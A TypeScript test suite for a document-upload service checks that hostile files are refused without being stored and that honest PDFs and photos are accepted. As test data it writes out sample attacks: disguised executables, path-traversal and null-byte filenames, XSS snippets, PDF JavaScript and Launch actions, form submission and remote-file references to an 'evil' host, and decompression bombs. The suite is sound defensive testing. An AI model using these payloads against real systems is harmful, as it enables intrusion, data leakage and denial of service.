/** Forty hostile files are refused with a sentence of the catalogue and leave nothing; honest ones are accepted. */
import { randomBytes } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { limits } from '#contract/fields/limits.ts';
import type { ProblemCode } from '#contract/kernel/problems.ts';
import { receiptCase } from '#server/pdf/papers.fixtures.ts';
import { createTypesetter } from '#server/pdf/typesetter.ts';
import { applicant, formOf } from '#server/testing/applicant.ts';
import type { Browser } from '#server/testing/browser.ts';
import { exporterOf } from '#server/testing/exporter.ts';
import { startServer, type TestServer } from '#server/testing/server.ts';
import {
  ANIMATED_GIF,
  chunk,
  EICAR,
  exifOf,
  gifOfSize,
  gifWithComment,
  JPEG,
  jpegOfSize,
  jpegWith,
  objectStream,
  PNG,
  PROGRESSIVE_JPEG,
  pdfStream,
  pdfWith,
  pngOf,
  pngOfSize,
  pngWith,
  segment,
} from './files.fixtures.ts';

/** A scanner that finds the test signature, and answers everything else as clean. */
const startScanner = () =>
  new Promise<{ server: Server; port: number }>((resolve) => {
    const server = createServer((socket) => {
      const seen: Buffer[] = [];
      socket.on('error', () => {});
      socket.on('data', (data: Buffer) => {
        seen.push(data);
        // The empty part at the end; a file of the tests that holds four zeros comes in one piece with more behind them.
        if (!data.subarray(-4).equals(Buffer.alloc(4))) return;
        socket.end(Buffer.concat(seen).includes(EICAR) ? 'stream: Eicar-Test-Signature FOUND\0' : 'stream: OK\0');
      });
    });
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve({ server, port: typeof address === 'object' && address ? address.port : 0 });
    });
  });

let scanner: Awaited<ReturnType<typeof startScanner>>;
let server: TestServer;
beforeAll(async () => {
  scanner = await startScanner();
  server = await startServer({ seeded: true, env: { CLAMD_URL: `tcp://127.0.0.1:${scanner.port}` } });
});
afterAll(async () => {
  await server.close();
  scanner.server.close();
});

/** Where files are uploaded to: an open draft, and the kind of its document. */
type Place = { kind: string; path: string; browser: Browser; attach: (form: FormData) => ReturnType<Browser['call']> };
const PLACES: readonly (readonly [what: string, open: () => Promise<Place>])[] = [
  [
    'a loan application',
    async () => {
      const draft = await applicant(server);
      await draft.save(0, { applicantType: { applicantType: 'individual' } });
      return { ...draft, kind: 'land-deed', path: `drafts/${draft.id}` };
    },
  ],
  [
    'an export certificate',
    async () => {
      const { browser, request } = await exporterOf(server);
      const one = request();
      await one.save(0, {}, { equipment: {} });
      return { browser, attach: one.attach, kind: 'export-bill', path: `export-certificates/${one.id}` };
    },
  ],
];

const filesOnDisk = () =>
  readdirSync(join(server.context.config.dataDir, 'documents'), { recursive: true, withFileTypes: true }).filter(
    (entry) => entry.isFile(),
  ).length;

const text = (content: string) => Buffer.from(content, 'latin1');
const PDF = pdfWith();
const EXE = Buffer.concat([text('MZ'), Buffer.alloc(400, 1)]);
const HTML = text('<!doctype html><script>alert(1)</script>');
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const ZIP = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(60), text('PK\x05\x06'), Buffer.alloc(18)]);
const HEIC = Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(100)]);
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const BOMB = deflateSync(Buffer.alloc(600 * 1024 * 1024), { level: 9 });

const [jpg, png, gif, pdf] = ['image/jpeg', 'image/png', 'image/gif', 'application/pdf'];
type Case = readonly [what: string, name: string, type: string, content: Buffer, code: ProblemCode];

const HOSTILE: readonly Case[] = [
  ['nothing', 'a.pdf', pdf, Buffer.alloc(0), 'file_required'],
  ['a program under its own name', 'setup.exe', 'application/x-msdownload', EXE, 'file_type_not_accepted'],
  ['a program as a picture', 'photo.png', png, EXE, 'file_type_not_accepted'],
  ['a program as a PDF', 'deed.pdf', pdf, EXE, 'file_type_not_accepted'],
  ['a program behind a zero in the name', 'deed.exe\u0000.pdf', pdf, EXE, 'file_type_not_accepted'],
  ['a double extension', 'deed.pdf.exe', pdf, PDF, 'file_type_not_accepted'],
  ['a script of the shell', 'deed.sh', 'application/x-sh', text('#!/bin/sh\nid'), 'file_type_not_accepted'],
  ['the path of a program', '../../../bin/sh', pdf, PDF, 'file_type_not_accepted'],
  ['an SVG as a PNG', 'map.png', png, SVG, 'file_type_not_accepted'],
  ['an SVG', 'map.svg', 'image/svg+xml', SVG, 'file_type_not_accepted'],
  ['a page as a PNG', 'map.png', png, HTML, 'file_type_not_accepted'],
  ['a page as a PDF', 'page.pdf', pdf, HTML, 'file_type_not_accepted'],
  ['a PDF as a JPEG', 'deed.jpg', jpg, PDF, 'file_type_not_accepted'],
  ['a PNG as a JPEG', 'map.jpg', jpg, PNG, 'file_type_not_accepted'],
  ['an archive as a PDF', 'deed.pdf', pdf, ZIP, 'file_type_not_accepted'],
  ['a PDF that is an archive', 'deed.pdf', pdf, Buffer.concat([PDF, ZIP, text('%%EOF')]), 'file_type_not_accepted'],
  ['a JPEG that is an archive', 'photo.jpg', jpg, Buffer.concat([JPEG, ZIP]), 'file_type_not_accepted'],
  ['a PNG that is an archive', 'map.png', png, Buffer.concat([PNG, ZIP]), 'file_type_not_accepted'],
  ['a GIF with a script', 'a.gif', gif, gifWithComment('<script>alert(1)</script>'), 'file_type_not_accepted'],
  ['a GIF with a drawing', 'a.gif', gif, gifWithComment('<SVG onload=alert(1)>'), 'file_type_not_accepted'],
  [
    'a PDF that begins with a drawing',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['(<svg/onload=alert(1)>)'] }),
    'file_type_not_accepted',
  ],
  [
    'a PDF with a page in it',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['(<ScRiPt >alert(1)</ScRiPt>)'] }),
    'file_type_not_accepted',
  ],
  ['a JPEG of three bytes', 'a.jpg', jpg, JPEG.subarray(0, 3), 'file_damaged'],
  ['a JPEG of four bytes', 'a.jpg', jpg, JPEG.subarray(0, 4), 'file_damaged'],
  ['half a JPEG', 'a.jpg', jpg, JPEG.subarray(0, -20), 'file_damaged'],
  ['half a PNG', 'a.png', png, PNG.subarray(0, -20), 'file_damaged'],
  ['half a GIF', 'a.gif', gif, ANIMATED_GIF.subarray(0, 50), 'file_damaged'],
  ['a PNG whose pixels cannot be unpacked', 'a.png', png, pngOf(text('no pixels at all')), 'file_damaged'],
  ['a PNG with fewer lines than it says', 'a.png', png, pngOfSize(900, 700), 'file_damaged'],
  ['a JPEG that ends long before its last line', 'a.jpg', jpg, jpegOfSize(3_000, 2_000), 'file_damaged'],
  ['half a PDF', 'a.pdf', pdf, PDF.subarray(0, 300), 'file_damaged'],
  ['a flood of pixels as JPEG', 'a.jpg', jpg, jpegOfSize(60_000, 60_000), 'picture_too_large'],
  ['a flood of pixels as PNG', 'a.png', png, pngOfSize(60_000, 60_000), 'picture_too_large'],
  ['a flood of pixels as GIF', 'a.gif', gif, gifOfSize(60_000, 60_000), 'picture_too_large'],
  ['a PDF with a script', 'a.pdf', pdf, pdfWith({ catalog: `/OpenAction ${SCRIPT}` }), 'file_has_active_content'],
  [
    'a PDF with a script in another spelling',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['<</S/J#61va#53cript/JS(1)>>'] }),
    'file_has_active_content',
  ],
  [
    'a PDF with a script behind a reference',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['<< /S 6 0 R /JS (1) >>', '/JavaScript'] }),
    'file_has_active_content',
  ],
  [
    'a PDF with a script in an object stream',
    'a.pdf',
    pdf,
    pdfWith({ objects: [objectStream(SCRIPT)] }),
    'file_has_active_content',
  ],
  [
    'an object stream without its name',
    'a.pdf',
    pdf,
    pdfWith({ objects: [objectStream(SCRIPT, '/N 1 /First 5 /Filter /Fl#61teDecode')] }),
    'file_has_active_content',
  ],
  [
    'an object stream that cannot be read',
    'a.pdf',
    pdf,
    pdfWith({
      objects: [pdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', text('00>'))],
    }),
    'file_damaged',
  ],
  [
    'a PDF that starts a program',
    'a.pdf',
    pdf,
    pdfWith({ page: '/Annots [<< /A << /S /Launch /F (cmd.exe) >> >>]' }),
    'file_has_active_content',
  ],
  [
    'a PDF that acts when it is closed',
    'a.pdf',
    pdf,
    pdfWith({ catalog: '/AA << /WC 5 0 R >>', objects: ['<< /S /URI /URI (http://e) >>'] }),
    'file_has_active_content',
  ],
  [
    'a PDF that sends its form',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['<< /S /SubmitForm /F (http://evil) >>'] }),
    'file_has_active_content',
  ],
  [
    'a PDF that takes in data',
    'a.pdf',
    pdf,
    pdfWith({ objects: ['<< /S /ImportData /F (x.fdf) >>'] }),
    'file_has_active_content',
  ],
  [
    'a PDF that opens another file',
    'a.pdf',
    pdf,
    pdfWith({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>' }),
    'file_has_active_content',
  ],
  [
    'a PDF with a file in it',
    'a.pdf',
    pdf,
    pdfWith({ catalog: '/Names << /EmbeddedFiles 5 0 R >>', objects: [pdfStream('/Type /EmbeddedFile', EXE)] }),
    'file_has_active_content',
  ],
  [
    'a PDF with an XFA form',
    'a.pdf',
    pdf,
    pdfWith({ catalog: '/AcroForm << /XFA [(a) 5 0 R] >>' }),
    'file_has_active_content',
  ],
  [
    'a PDF with a password',
    'a.pdf',
    pdf,
    pdfWith({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
    'file_is_protected',
  ],
  [
    'a PDF that swells to gigabytes',
    'a.pdf',
    pdf,
    pdfWith({ objects: [pdfStream('/Filter /FlateDecode', BOMB)] }),
    'file_damaged',
  ],
  [
    'an object stream that swells',
    'a.pdf',
    pdf,
    pdfWith({ objects: [pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', BOMB)] }),
    'file_damaged',
  ],
  [
    'a PDF that swells twice',
    'a.pdf',
    pdf,
    pdfWith({ objects: [pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(BOMB))] }),
    'file_damaged',
  ],
  ['a virus', 'a.pdf', pdf, pdfWith({ objects: [`(${EICAR})`] }), 'file_infected'],
  ['a photo in HEIC', 'IMG_1.HEIC', 'image/heic', HEIC, 'file_heic'],
  ['a photo in HEIC that calls itself JPEG', 'IMG_1.jpg', jpg, HEIC, 'file_heic'],
];

const PAPER = () => createTypesetter().pdf('receipt.typ', receiptCase('ar'), new Date(0));
const LINKED = pdfWith({
  catalog: '/OpenAction [3 0 R /Fit] /Outlines 5 0 R /PageMode /UseOutlines',
  page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://developer.mozilla.org/docs/Web/JavaScript) >> >> << /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>]',
  objects: [
    '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
    '<< /Title (JavaScript and Launch) /Parent 5 0 R /Dest [3 0 R /Fit] >>',
  ],
});
const FORM = pdfWith({
  catalog: '/AcroForm << /Fields [5 0 R] >> /OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>',
  objects: ['<< /FT /Tx /T (name) /V (Huda) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>'],
});
const WORD = pdfWith({
  catalog: '/OpenAction 6 0 R',
  objects: [
    objectStream('<< /Producer (Word) >>'),
    '[3 0 R /XYZ null null 0]',
    pdfStream(
      '/Type /XRef /N 3 /Filter /FlateDecode /DecodeParms << /Columns 4 /Predictor 12 >>',
      deflateSync(Buffer.alloc(50)),
    ),
  ],
});
const filler = (bytes: number) =>
  pdfWith({ objects: [pdfStream('/Subtype /Image /Filter /DCTDecode', randomBytes(bytes))] });
const SCAN = filler(limits.upload.maxBytes - 2_000);

const HONEST: readonly (readonly [what: string, name: string, type: string, content: () => Buffer])[] = [
  ['a PDF of our own', 'إيصال.pdf', pdf, PAPER],
  ['an Arabic name', 'صك المزرعة (نسخة).pdf', pdf, () => PDF],
  ['a scan of nearly ten megabytes', 'scan.pdf', pdf, () => SCAN],
  ['PDF 2.0', 'a.pdf', pdf, () => pdfWith({ version: '2.0' })],
  ['PDF 1.4', 'a.pdf', pdf, () => pdfWith({ version: '1.4' })],
  ['links, an outline and a page to open at', 'a.pdf', pdf, () => LINKED],
  ['a form without scripts', 'a.pdf', pdf, () => FORM],
  ['object streams, as Word writes them', 'a.pdf', pdf, () => WORD],
  ['a phone that does not know the type', 'a.pdf', 'application/octet-stream', () => PDF],
  ['a phone that names none', 'photo.JPG', '', () => JPEG],
  ['a type as some phones call it', 'a.jpg', 'image/jpg', () => JPEG],
  ['a progressive JPEG', 'a.jpeg', jpg, () => PROGRESSIVE_JPEG],
  ['a JPEG of a phone', 'IMG_2041.jpg', jpg, () => jpegWith(exifOf(6))],
  ['a JPEG with a moving picture behind it', 'IMG.jpg', jpg, () => Buffer.concat([JPEG, randomBytes(5_000)])],
  ['a PNG with texts', 'a.png', png, () => pngWith(chunk('tEXt', text('Author\0Huda')))],
  ['an animated GIF', 'a.gif', gif, () => ANIMATED_GIF],
];

test('there are at least forty', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));

describe.each(PLACES)('to %s', (what, open) => {
  let place: Place;
  const count = { refused: 0, accepted: 0 };
  beforeAll(async () => {
    place = await open();
    // Files that were replaced before are gone.
    await server.context.outbox.drain();
  });
  afterAll(() => {
    console.info(
      `${what}: hostile files refused: ${count.refused} of ${HOSTILE.length}; honest ones accepted: ${count.accepted} of ${HONEST.length}`,
    );
  });

  test.each(HOSTILE)('%s is refused with a sentence, and nothing is kept', async (_, name, type, content, code) => {
    expect(content.length).toBeLessThanOrEqual(limits.upload.maxBytes);
    const before = filesOnDisk();
    const { status, body } = await place.attach(formOf(place.kind, content, name, type));
    expect({ status, code: body.error?.code }).toEqual({ status: expect.any(Number), code });
    expect(status).toBeGreaterThanOrEqual(400);
    expect(status).toBeLessThan(500);
    expect(filesOnDisk()).toBe(before);
    count.refused++;
  });

  test.each(HONEST)('an honest file is accepted: %s', async (_, name, type, content) => {
    const { status, body } = await place.attach(formOf(place.kind, content(), name, type));
    expect({ status, code: body.error?.code }).toEqual({ status: 200, code: undefined });
    expect(body.name).toBe(name);
    count.accepted++;
  });

  test.each([
    [
      'JPEG',
      'a.jpg',
      jpg,
      jpegWith(
        exifOf(6),
        segment(0xe1, text('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET')),
        segment(0xed, text('Photoshop 3.0\0SECRET')),
        segment(0xfe, text('SECRET')),
      ),
    ],
    [
      'PNG',
      'a.png',
      png,
      pngWith(
        chunk('tEXt', text('Comment\0SECRET')),
        chunk('eXIf', text('II*\0GPS SECRET')),
        chunk('tIME', Buffer.alloc(7)),
      ),
    ],
    ['GIF', 'a.gif', gif, gifWithComment('SECRET')],
  ])('who took it, where and when is removed from a %s', async (_, name, type, content) => {
    const { status, body } = await place.attach(formOf(place.kind, content, name, type));
    expect(status).toBe(200);
    const { browser, path } = place;
    const answer = await fetch(`${server.url}/api/${path}/attachments/${body.id}`, {
      headers: { cookie: browser.cookie, authorization: `Bearer ${browser.token}` },
    });
    const stored = Buffer.from(await answer.arrayBuffer());
    expect(stored.includes('SECRET') || stored.includes('GPS')).toBe(false);
    expect(stored.length).toBe(body.size);
  });
});
